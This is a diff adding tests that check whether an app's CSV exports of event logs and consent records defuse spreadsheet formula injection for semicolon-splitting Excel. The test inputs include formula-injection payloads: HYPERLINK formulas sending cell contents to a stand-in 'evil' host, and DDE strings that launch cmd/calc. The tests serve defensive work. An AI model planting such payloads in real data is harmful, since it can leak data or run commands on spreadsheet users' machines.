@@ -149,6 +149,47 @@ def test_a_user_agent_that_looks_like_a_formula_is_defused_in_the_csv(client, op
     assert agents == {'\'=HYPERLINK("http://evil")'}
 
 
+def cells_split_on_semicolons(body: str) -> list[str]:
+    """The cells a spreadsheet set up with ";" as its list separator makes of each line (Excel with
+    Colombian regional settings, decimal comma, opening a .csv with a double click): it does not
+    see the commas, and a new cell begins after every ";"."""
+    return [cell for line in body.splitlines() for cell in line.split(";")[1:]]
+
+
+def test_a_formula_after_a_semicolon_is_defused_for_a_spreadsheet_that_splits_on_semicolons(client, operator):
+    """Anyone can choose a user agent, a username on the operators' login (a failed login is an event
+    with it) or a path: each may hold ";=…", which such a spreadsheet reads as a formula cell."""
+    agent = 'Mozilla/5.0 (X11;=HYPERLINK("http://evil/"&A1;"ver")) ;"+cmd|calc!A0'
+    request = RequestFactory().post("/", HTTP_USER_AGENT=agent)
+    event_record("staff_login_failed", request=request, operator="x;-2+cmd|'/c calc'!A0;@SUM(1)")
+    member = make_member(returning=True, name='Ana;=HYPERLINK("http://evil") Gómez')
+
+    exports = [
+        client.get(f"{EVENTS}exportar.csv"),
+        client.get(f"/operadores/members/member/{member.pk}/autorizaciones.csv"),
+    ]
+
+    for response in exports:
+        body = b"".join(response.streaming_content).decode("utf-8")
+        for cell in cells_split_on_semicolons(body):
+            assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), cell
+    # Read as the comma-separated file it is, every value is still there, the data exactly.
+    rows = csv_rows(client.get(f"{EVENTS}exportar.csv", {"kind": "staff_login_failed"}))
+    assert json.loads(rows[0]["data"]) == {"operator": "x;-2+cmd|'/c calc'!A0;@SUM(1)"}
+    assert rows[0]["user_agent"].replace(";'", ";") == agent
+
+
+def test_the_policy_text_in_the_consent_proof_csv_still_hashes_as_the_proof_says(client, operator):
+    """Prose with "; -" is no one's formula: the proof's text is exported exactly."""
+    from oficina.consent.services import policy_publish
+
+    policy_publish(version="2", text="<p>Tus derechos; - conocer; - actualizar; =rectificar</p>")
+    member = make_member(returning=True)
+    (row,) = csv_rows(client.get(f"/operadores/members/member/{member.pk}/autorizaciones.csv"))
+    assert row["version"] == "2" and row["sha256_verificado"] == "si"
+    assert text_sha256(row["texto_politica"]) == row["sha256_aceptado"]
+
+
 def test_selected_events_can_be_exported_with_the_admin_action(client, operator):
     first = event_record("signin_ok", member=make_member())
     event_record("signin_failed")
